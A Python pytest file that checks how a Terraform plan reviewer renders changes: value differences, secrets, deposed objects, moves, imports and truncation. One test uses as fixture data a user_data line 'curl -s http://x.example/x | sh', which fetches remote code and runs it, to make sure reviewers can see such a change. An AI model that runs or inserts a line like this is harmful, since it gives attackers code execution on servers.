"""What a reader sees of each change: its values, and where they differ."""

from __future__ import annotations

import pytest

from pipeline.domain.model import Action
from pipeline.render.changes import by_importance, item
from pipeline.render.values import change_html
from pipeline.render.words import counts
from pipeline.results import ChangeReport, LeafReport, PlanReport

MORE = "see there."


def shown(*leaves: LeafReport, action: Action = Action.UPDATE, **more: object) -> str:
    change = ChangeReport(address="aws_x.y", action=action, leaves=list(leaves), **more)  # type: ignore[arg-type]
    return item(change, MORE).whole


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("a  b", "a b", "`a␣␣b` becomes `a b`"),
        ("a\nb", "a b", "`a⏎b` becomes `a b`"),
        ("x ", "x", "`x␣` becomes `x`"),
        (None, "x", "(not set) becomes `x`"),
        ("(not set)", None, "`(not set)` becomes (not set)"),
        ("", "x", "(empty) becomes `x`"),
        ("1", 1, '`"1"` becomes `1`'),
        (True, "true", '`true` becomes `"true"`'),
        ("a `b` @c #1", "d", "``a `b` @c #1`` becomes `d`"),
    ],
)
def test_a_difference_is_seen_whatever_it_is(before: object, after: object, said: str) -> None:
    leaf = LeafReport.model_validate({"path": "/v", "before": before, "after": after})
    assert said in shown(leaf)


def test_the_changed_line_of_a_script_is_in_the_comment_and_in_the_report() -> None:
    old = "\n".join(f"echo {n}" for n in range(60)) + "\nsystemctl start agent"
    new = old.replace("systemctl start agent", "curl -s http://x.example/x | sh")
    leaf = LeafReport(path="/user_data", before=old, after=new)
    text = shown(leaf)
    assert "    - systemctl start agent\n    + curl -s http://x.example/x | sh" in text
    assert text.count("echo") == 2
    change = ChangeReport(address="aws_x.y", action=Action.UPDATE, leaves=[leaf])
    page = change_html(change)
    assert "<ins>+ curl -s http://x.example/x | sh</ins>" in page
    assert page.count("echo") == 60


def test_a_difference_that_is_only_in_a_secret_is_told_as_that() -> None:
    leaf = LeafReport(path="/v", before="a (secret removed)", after="a (secret removed)")
    assert "differs in a secret" in shown(leaf)
    change = ChangeReport(address="a.b", action=Action.UPDATE, leaves=[leaf])
    assert "differs in a secret" in change_html(change)


def test_what_is_open_to_everybody_comes_first_and_names_come_last() -> None:
    leaves = [LeafReport(path=f"/name_{n}", after=f"n{n}") for n in range(40)]
    leaves += [LeafReport(path="/tags/Name", after="t"), LeafReport(path="/zz_cidr", after="::/0")]
    text = shown(*leaves)
    assert text.index("zz_cidr") < text.index("name_0")
    assert f"and 22 more values; {MORE}" in text
    created = shown(*leaves, action=Action.CREATE)
    assert created.startswith("- create `aws_x.y`: `zz_cidr` = `::/0`, ")
    assert created.endswith("36 more")


def test_a_new_resource_shows_its_values() -> None:
    text = shown(
        LeafReport(path="/arn", after="(known after apply)", unknown=True),
        LeafReport(path="/cidr_ipv4", after="0.0.0.0/0"),
        LeafReport(path="/from_port", after=22),
        action=Action.CREATE,
    )
    assert text == "- create `aws_x.y`: `cidr_ipv4` = `0.0.0.0/0`, `from_port` = `22`"


def test_a_deposed_object_is_a_leftover_and_the_address_is_not_told_as_destroyed() -> None:
    left = ChangeReport(address="aws_db_instance.db", action=Action.DELETE, deposed="8e7cdf03")
    said = item(left, MORE).whole
    assert said == (
        "- destroy a leftover of an earlier replacement (deposed `8e7cdf03`) of "
        "`aws_db_instance.db`; the live object stays"
    )
    assert not left.destructive
    assert counts(PlanReport(unit="a/b", changes=[left])) == "1 leftover to destroy"
    assert "leftover" in change_html(left)


def test_moves_imports_forgets_and_outputs_are_told_and_counted_apart() -> None:
    changes = [
        ChangeReport(address="a.new", action=Action.NO_OP, previous_address="a.old"),
        ChangeReport(address="a.in", action=Action.NO_OP, imported=True),
        ChangeReport(address="a.gone", action=Action.FORGET),
        ChangeReport(address="a.c", action=Action.CREATE),
        ChangeReport(address="output.url", action=Action.UPDATE, type="output"),
    ]
    said = [item(change, MORE).brief for change in by_importance(changes)]
    assert said == [
        "- create `a.c`",
        "- forget `a.gone`, which stays as it is without Terraform",
        "- move `a.new`, until now `a.old`",
        "- import `a.in`",
        "- change output `output.url`",
    ]
    plan = PlanReport(unit="a/b", changes=changes)
    assert counts(plan) == "1 to create, 1 to forget, 1 to import, 1 to move, 1 output"


def test_a_long_update_keeps_its_first_values_where_there_is_not_room_for_all() -> None:
    leaves = [LeafReport(path=f"/v{n}", before="x" * 500, after="y" * 500) for n in range(30)]
    change = ChangeReport(address="aws_x.y", action=Action.UPDATE, leaves=leaves)
    whole, few, brief = item(change, MORE).lengths
    assert (whole.count("becomes"), few.count("becomes"), brief.count("becomes")) == (20, 3, 0)
    assert brief == "- change `aws_x.y`"
